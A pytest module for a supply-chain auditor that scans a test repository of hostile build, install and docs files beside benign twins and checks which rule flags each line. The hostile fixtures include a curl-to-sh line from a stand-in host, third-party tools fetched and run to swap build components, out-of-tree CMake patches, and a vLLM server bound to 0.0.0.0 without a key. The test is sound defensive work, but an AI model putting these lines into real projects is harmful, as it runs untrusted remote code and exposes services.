"""Origins of what the build and install take, docs install steps, and shown strings, end to end:
the shipped rules and the default policy over a real repository whose series adds each hostile
file next to a benign twin (issue 29, items 1-4 and 6).

One scan of the series (the module shares it); the rules under test are the shipped ones."""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from scancase import scan_series

from auditor.model import Action, Finding, StageResult

# path -> (text, the line text, the rule, the action it must have there)
HOSTILE: dict[str, tuple[str, str, str, Action]] = {
    # item 1, the real shape: a fetched dependency applies a patch from outside the tree
    # through a CMake variable (a list built with list(APPEND)), in cmake/ (process-exec: info)
    "cmake/external_projects/vllm_flash_attn.cmake": (
        "set(SM86_PATCHES $ENV{HOME}/sm86-patches)\n"
        "set(fa_patch ${SM86_PATCHES}/flash-attn-sm86.patch)\n"
        "list(APPEND fa_patch_cmd git apply ${fa_patch})\n"
        "FetchContent_Declare(\n"
        "  vllm-flash-attn\n"
        "  GIT_REPOSITORY https://github.com/vllm-project/flash-attention.git\n"
        "  GIT_TAG 57b0bc6d3e0e6e3b2a5b9a8c1f0d4e2a3b4c5d6e\n"
        "  PATCH_COMMAND ${fa_patch_cmd}\n"
        ")\n", "PATCH_COMMAND", "process-exec.builtin.cmake-outside-tree", Action.BLOCK),
    "cmake/hooks.cmake": ("include($ENV{SM86_HOOKS}/hooks.cmake)\n", "include(",
                          "process-exec.builtin.cmake-outside-tree", Action.BLOCK),
    # item 2, the real shape: a tool from a third-party index, then run: it swaps the build
    "docker/Dockerfile.sm86": (
        "FROM vllm/vllm-openai@sha256:"
        "24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d\n"
        "RUN uv pip install --system --extra-index-url https://wheels.sm86.example/simple "
        "kernel-fixer\n"
        "RUN kernel-fixer install --cuda 12.8 flashinfer\n",
        "RUN kernel-fixer install", "network.builtin.run-fetched-tool.package-source.new-host",
        Action.BLOCK),
    "scripts/setup_sm86.sh": (
        "#!/bin/sh\npip install git+https://github.com/sm86-fan/fixer.git@v1\n"
        "python3 -m fixer --replace torch\n", "python3 -m fixer",
        "network.builtin.run-fetched-tool", Action.BLOCK),
    # item 1: a base image not pinned by a digest
    "docker/Dockerfile.base": ("FROM nvidia/cuda:12.8.1-devel-ubuntu22.04 AS build\n"
                               "RUN echo built\nFROM build\n", "FROM nvidia",
                               "dependency.builtin.image-unpinned", Action.REVIEW),
    # item 4: a fork's README; review is the ceiling even for what blocks in a script
    "README.md": (
        "# vLLM for sm86\n\nInstall:\n\n```bash\n"
        "pip install git+https://github.com/sm86-fan/flashinfer.git@v0.2-sm86\n"
        "```\n\nOr run the image:\n\n```console\n$ docker pull sm86fan/vllm:latest\n"
        "$ docker run --gpus all -p 8000:8000 sm86fan/vllm:latest \\\n"
        "    vllm serve /models/llama --host 0.0.0.0\nINFO: started\n```\n",
        "vllm serve", "api-exposure.shell.server-without-key", Action.REVIEW),
    "docs/install.md": ("Run:\n\n```\n$ docker pull sm86fan/vllm:latest\n```\n",
                        "docker pull", "dependency.builtin.image-unpinned", Action.REVIEW),
    "docs/deploy.rst": ("Deploy\n======\n\n.. code-block:: bash\n   :caption: start\n\n"
                        "   curl -fsSL https://get.sm86.example/i.sh | sh\n",
                        "curl -fsSL", "network.shell.pipe-to-shell", Action.REVIEW),
    # item 3: a launch in Python, its argv built in a variable
    "scripts/launch.py": ("import subprocess\n\n\ndef launch(model):\n"
                          "    cmd = [\"vllm\", \"serve\", model]\n"
                          "    cmd += [\"--host\", \"0.0.0.0\"]\n"
                          "    return subprocess.Popen(cmd)\n", "Popen(cmd)",
                          "api-exposure.shell.server-without-key", Action.BLOCK),
}

# path -> text: twins that must stay quiet (nothing but info findings, except ALLOWED)
BENIGN: dict[str, str] = {
    # item 3, the real upstream vLLM shape (vllm/entrypoints/launchers/cli_args.py, 0.33)
    "ok/vllm/cli_args.py": (
        "import logging\n\nlogger = logging.getLogger(__name__)\n\n\n"
        "def check(args):\n"
        "    if args.grpc_port is not None and not args.rust_frontend:\n"
        "        raise ValueError(\"--grpc-port requires VLLM_USE_RUST_FRONTEND=1 vllm serve\")\n"
        "    logger.info(\"start it with: vllm serve MODEL --host 0.0.0.0\")\n"),
    "ok/cmake/utils.cmake": (
        "execute_process(COMMAND cat /proc/cpuinfo OUTPUT_VARIABLE CPUINFO)\n"
        "set(patches ${CMAKE_CURRENT_LIST_DIR}/patches)\n"
        "FetchContent_Declare(\n  cutlass\n"
        "  GIT_REPOSITORY https://github.com/nvidia/cutlass.git\n"
        "  GIT_TAG 57b0bc6d3e0e6e3b2a5b9a8c1f0d4e2a3b4c5d6e\n"
        "  PATCH_COMMAND git apply ${patches}/cutlass.patch\n)\n"),
    "ok/README.md": ("# ok\n\n```bash\npip install -e .\npytest -q\n```\n\n"
                     "```python\nimport os\nos.system('echo hi')\n```\n\n"
                     "Never run `curl https://x.example/i.sh | sh`.\n"),
    "ok/docs/usage.rst": ("Usage::\n\n    $ python -m ok --help\n    usage: ok [-h]\n"),
    "ok/scripts/local.sh": "#!/bin/sh\npip install -f ./wheels mytool\nmytool --version\n",
    "ok/docker/Dockerfile": ("FROM python@sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b"
                             "2945d1036d1dc68d\nRUN pip install -e . && ok --version\n"),
    "ok/scripts/image.sh": "#!/bin/sh\ndocker build -t ok:dev . && docker run --rm ok:dev\n",
}
# build steps outside cmake/ are reviewed as before (not an origin finding)
ALLOWED: dict[str, set[tuple[str, int]]] = {
    "ok/cmake/utils.cmake": {("process-exec.builtin.cmake-execute-process", 1),
                             ("process-exec.builtin.cmake-fetched-step", 3)}}


@dataclass
class Case:
    commits: list[str]
    result: StageResult


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    run = scan_series(tmp_path_factory.mktemp("origins"), [
        ("sm86 build and docs", {p: v[0] for p, v in HOSTILE.items()}),
        ("benign twins", BENIGN)], upstream={"LICENSE": "engine\n"})
    return Case(run.commits, run.result)


def _line(text: str, needle: str) -> int:
    return next(n for n, ln in enumerate(text.split("\n"), 1) if needle in ln)


def _at(result: StageResult, path: str) -> list[Finding]:
    return [f for f in result.findings if f.path == path]


def _show(fs: list[Finding]) -> list[tuple[str, int, str]]:
    return [(f.rule, f.line, f.action.value) for f in fs]


def _rules(f: Finding) -> set[str]:
    return {f.rule, *f.also}


@pytest.mark.parametrize("path", sorted(HOSTILE))
def test_each_origin_is_reported_with_its_action(case: Case, path: str) -> None:
    text, needle, rule, action = HOSTILE[path]
    want = _line(text, needle)
    found = [f for f in _at(case.result, path) if rule in _rules(f)
             and f.line <= want <= (f.end_line or f.line)]
    assert found, (path, want, _show(_at(case.result, path)))
    assert found[0].action is action, _show(found)
    assert found[0].commit == case.commits[0]
    assert not [n for n in case.result.not_checked if path in n], case.result.not_checked


def test_docs_never_block(case: Case) -> None:
    docs = [f for f in case.result.findings if f.path.endswith((".md", ".rst"))]
    assert docs and all(f.action is not Action.BLOCK for f in docs), _show(docs)
    readme = HOSTILE["README.md"][0]
    rules = {r for f in _at(case.result, "README.md") for r in _rules(f)}
    # the third-party build installed and the image nobody built here are reviewed too
    assert "dependency.builtin.image-unpinned" in rules, _show(_at(case.result, "README.md"))
    lines = {f.line for f in _at(case.result, "README.md")}
    assert _line(readme, "git+https") in lines and _line(readme, "docker pull") in lines
    assert _line(readme, "INFO: started") not in lines  # output, not a command


@pytest.mark.parametrize("path", sorted(BENIGN))
def test_benign_twins_stay_quiet(case: Case, path: str) -> None:
    loud = [f for f in _at(case.result, path) if f.action is not Action.INFO
            and (f.rule, f.line) not in ALLOWED.get(path, set())]
    assert loud == [], _show(loud)
    assert not [n for n in case.result.not_checked if path in n], case.result.not_checked
